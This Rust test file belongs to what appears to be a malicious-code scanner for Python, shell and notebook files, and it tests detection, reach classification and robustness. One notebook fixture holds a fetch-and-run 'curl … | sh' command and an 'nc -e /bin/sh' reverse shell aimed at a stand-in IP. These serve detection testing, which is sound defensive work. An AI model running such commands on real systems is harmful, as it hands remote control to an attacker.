use std::fmt::Write;

use chainwright_core::limits::Limits;
use chainwright_core::location::Place;
use chainwright_core::severity::Severity;
use chainwright_testkit::corpus::{Case, Label, code};
use proptest::prelude::*;

use crate::{
    Behaviour, BehaviourKind, PythonFacts, Reach, inspect_notebook, inspect_pth, inspect_python,
    inspect_shell,
};

/// The behaviours of a case, by the kind of its file.
fn inspect(case: &Case) -> Vec<Behaviour> {
    let limits = Limits::default();
    let text = String::from_utf8_lossy(&case.files[0].1).into_owned();
    match case.subject.rsplit('.').next() {
        Some("py") => inspect_python(&text, &limits).behaviours,
        Some("ipynb") => inspect_notebook(&text, &limits).behaviours,
        Some("pth") => inspect_pth(&text, &limits).behaviours,
        _ => inspect_shell(&text, &limits).behaviours,
    }
}

#[test]
fn the_corpus_is_told_apart() {
    let mut wrong = String::new();
    for case in code::cases() {
        let behaviours = inspect(&case);
        let worst = behaviours.iter().map(Behaviour::severity).max();
        let is_flagged = worst >= Some(Severity::Medium);
        if is_flagged != (case.label == Label::Malicious) {
            let seen: Vec<String> = behaviours
                .iter()
                .map(|behaviour| {
                    format!(
                        "{} {} {} {} `{}`",
                        behaviour.severity(),
                        behaviour.kind.as_str(),
                        behaviour.reach.as_str(),
                        behaviour.confidence,
                        behaviour.evidence
                    )
                })
                .collect();
            let _ = writeln!(
                wrong,
                "{:?} {} {}: {seen:#?}",
                case.label, case.subject, case.name
            );
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

fn python(source: &str) -> PythonFacts {
    inspect_python(source, &Limits::default())
}

/// Whether a source shows a kind with a reach.
#[track_caller]
fn check(source: &str, kind: BehaviourKind, reach: Reach) {
    let facts = python(source);
    let found = facts
        .behaviours
        .iter()
        .any(|behaviour| behaviour.kind == kind && behaviour.reach == reach);
    assert!(found, "{source}: {:#?}", facts.behaviours);
}

#[test]
fn the_reach_is_how_execution_gets_there() {
    use BehaviourKind::ProcessStart;
    for (source, reach) in [
        ("import os\nos.system('x')", Reach::Import),
        (
            "import os\ndef f():\n    os.system('x')\nf()",
            Reach::Import,
        ),
        ("import os\ndef f():\n    os.system('x')", Reach::Function),
        (
            "import os\nclass A:\n    def forward(self):\n        self.g()\n    def g(self):\n        os.system('x')",
            Reach::Constructor,
        ),
        (
            "import os\nif __name__ == '__main__':\n    os.system('x')",
            Reach::Main,
        ),
        (
            "import os\nif True and '__main__' == __name__:\n    os.system('x')",
            Reach::Main,
        ),
        ("import os\nclass A:\n    os.system('x')", Reach::Import),
        (
            "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()",
            Reach::Import,
        ),
        (
            "import os\ndef f():\n    def g():\n        os.system('x')\n    return g\nf()()",
            Reach::Import,
        ),
        ("import os\nf = lambda: os.system('x')", Reach::Function),
    ] {
        check(source, ProcessStart, reach);
    }
}

#[test]
fn places_names_and_imports_are_kept() {
    let facts = python(
        "import torch.nn as nn, os\nfrom json import loads\n\nclass A(nn.Module):\n    pass\n\ndef f():\n    pass\n\nx = 1; os.system('id')\n",
    );
    assert!(facts.parsed);
    assert_eq!(facts.imports, ["json", "os", "torch"]);
    assert_eq!(facts.classes, ["A"]);
    assert_eq!(facts.functions, ["f"]);
    assert_eq!(facts.behaviours.len(), 1);
    assert_eq!(
        facts.behaviours[0].place,
        Place::Line {
            line: 10,
            column: 8
        }
    );
    assert_eq!(facts.behaviours[0].evidence, "id");
}

#[test]
fn a_notebook_line_is_a_pointer() {
    let json = r##"{"cells":[{"cell_type":"markdown","source":["# x"]},{"cell_type":"code","source":["import os\n","!curl http://203.0.113.1/x | sh\n"]},{"cell_type":"code","source":"%%sh\nnc -e /bin/sh 203.0.113.1 1"}]}"##;
    let facts = inspect_notebook(json, &Limits::default());
    let places: Vec<&Place> = facts
        .behaviours
        .iter()
        .map(|behaviour| &behaviour.place)
        .collect();
    assert_eq!(
        places,
        [
            &Place::Pointer("/cells/1/source/1".to_owned()),
            &Place::Pointer("/cells/2/source".to_owned())
        ]
    );
    assert_eq!(inspect_notebook("{", &Limits::default()).problems.len(), 1);
}

#[test]
fn deep_source_is_reported_and_the_rest_is_judged() {
    let blocks = (0..3_000).fold(String::new(), |mut text, depth| {
        let _ = writeln!(text, "{}if a:", " ".repeat(depth));
        text
    });
    for deep in [
        format!("x = {}1{}", "(".repeat(20_000), ")".repeat(20_000)),
        format!("x = {}1", "not ".repeat(20_000)),
        format!("x = {}1", "-".repeat(20_000)),
        format!("x = 1{}", " + 1".repeat(20_000)),
        format!("x = a{}", ".b".repeat(20_000)),
        format!("x = a{}", "()".repeat(20_000)),
        format!("x = {}1", "lambda: ".repeat(20_000)),
        format!("x = {}1{}", "f'{".repeat(100), "}'".repeat(100)),
        format!("x = {}1", "1 if a else ".repeat(20_000)),
        format!("x = {}1{}", "[".repeat(9_000), "]".repeat(9_000)),
        format!("x = a{}", ".b".repeat(9_000)),
        format!("x = {}1", "-".repeat(9_000)),
        blocks,
    ] {
        let source = format!("import os\n{deep}\nos.system('id')\n");
        let facts = python(&source);
        let is_judged = facts
            .behaviours
            .iter()
            .any(|behaviour| behaviour.kind == BehaviourKind::ProcessStart);
        assert!(
            is_judged || !facts.problems.is_empty(),
            "{}",
            source.chars().take(60).collect::<String>()
        );
    }
    let mild = format!(
        "import os\nx = {}1{}\nos.system('id')\n",
        "(".repeat(2_000),
        ")".repeat(2_000)
    );
    assert_eq!(python(&mild).behaviours.len(), 1);
}

#[test]
fn loops_and_calls_have_an_end() {
    let chain = (0..300_u32).fold("def f0(x): pass\n".to_owned(), |mut text, index| {
        let next = index.saturating_add(1);
        let _ = writeln!(
            text,
            "def f{next}(x):\n    f{index}('a')\n    f{index}('b')\n    f{index}(x)"
        );
        text
    });
    for source in [
        "def f(x):\n    return f(x + 'a') + f(x + 'b')\nf('a')\n",
        "for a in range(60):\n for b in range(60):\n  for c in range(60):\n   for d in range(60):\n    for e in range(60):\n     x = a + b\n",
        "x = 'a'\nfor i in range(60):\n    x = x + x\nexec(x)\n",
        "x = [1]\nfor i in range(60):\n    x = x + x\n",
        "x = 'a' * 10 ** 9\ny = 'a' * 999999999999\n",
        "x = [y for y in range(10 ** 9)]\nz = list(range(99999999999))\n",
        &(chain + "f300('c')\n"),
        "class A:\n    def __init__(self): A()\nA()\n",
        "class A(A): pass\nA.x\n",
        "exec('exec(\"exec(\\'exec(1)\\')\")')\n",
        "x = lambda f: f(f)\nx(x)\n",
        "d = {}\nd['d'] = d\nd['d']['d'] = d\nl = []\nl.append(l)\nl.append(l)\n",
        "x = []\nfor i in range(60):\n    x = [x, x]\nimport requests\nrequests.post('x', json=x)\n",
        "def g(f):\n    def h(*a):\n        return f(f, *a)\n    return h\ng(g(g(g(g(g(g(print)))))))(1)\n",
    ] {
        assert_eq!(python(source), python(source));
    }
}

#[test]
fn a_long_file_is_judged_up_to_the_limit() {
    let limits = Limits {
        text_bytes: 64,
        ..Limits::default()
    };
    let source = format!("import os\nos.system('id')\n#{}", "é".repeat(200));
    let facts = inspect_python(&source, &limits);
    assert_eq!(facts.behaviours.len(), 1);
    assert!(facts.problems[0].kind.leaves_incomplete());
}

#[test]
fn every_prefix_of_every_case_is_read() {
    for case in code::cases() {
        let length = case.files[0].1.len();
        for end in (0..length).step_by((length / 40).max(1)) {
            let mut cut = case.clone();
            cut.files[0].1.truncate(end);
            assert_eq!(inspect(&cut), inspect(&cut), "{} up to {end}", case.name);
        }
    }
}

#[test]
fn every_byte_of_one_case_may_be_the_last() {
    let wanted = [
        "xor-function",
        "reverse-shell-in-function",
        "zlib-base64-lambda",
    ];
    for case in code::cases() {
        if !wanted.contains(&case.name.as_str()) {
            continue;
        }
        for end in 0..case.files[0].1.len() {
            let mut cut = case.clone();
            cut.files[0].1.truncate(end);
            let behaviours = inspect(&cut);
            assert!(behaviours.len() < 20, "{} up to {end}", case.name);
        }
    }
}

#[test]
fn facts_survive_storage() {
    let facts = python("import os\nos.system('id')\n");
    let stored = serde_json::to_string(&facts).expect("facts are plain data");
    let read: PythonFacts = serde_json::from_str(&stored).expect("just written");
    assert_eq!(read, facts);
}

const PARTS: &[&str] = &[
    "import os\n",
    "exec(",
    ")",
    "'a'",
    "\"",
    "'''",
    "[",
    "]",
    "{",
    "}",
    ":",
    "\n",
    "\n    ",
    "def f(x):",
    "class A(B):",
    "lambda x: ",
    "os.system",
    "getattr(",
    ", ",
    " + ",
    "%",
    ".format(",
    "[::-1]",
    "f'{x}'",
    "chr(",
    "99",
    "for x in ",
    "range(9)",
    "if ",
    "else",
    "try:",
    "$(",
    "`",
    "| sh",
    "curl ",
    "<<EOF\n",
    "EOF\n",
    "\\",
    "\0",
    "\u{202e}",
    "é",
    "=",
    ":=",
    "@",
    "*",
    "**",
    "self.",
    "base64.b64decode(",
    "'aWQ='",
    "return ",
    "yield ",
    "await ",
    "\t",
    ";",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_text_gives_the_same_facts_twice(text in "\\PC{0,200}") {
        let limits = Limits::default();
        prop_assert_eq!(inspect_python(&text, &limits), inspect_python(&text, &limits));
        prop_assert_eq!(inspect_shell(&text, &limits), inspect_shell(&text, &limits));
        prop_assert_eq!(inspect_notebook(&text, &limits), inspect_notebook(&text, &limits));
        prop_assert_eq!(inspect_pth(&text, &limits), inspect_pth(&text, &limits));
    }

    #[test]
    fn any_mixture_of_code_gives_the_same_facts_twice(
        parts in proptest::collection::vec(prop::sample::select(PARTS), 0..40)
    ) {
        let text = parts.concat();
        let limits = Limits::default();
        prop_assert_eq!(inspect_python(&text, &limits), inspect_python(&text, &limits));
        prop_assert_eq!(inspect_shell(&text, &limits), inspect_shell(&text, &limits));
    }
}
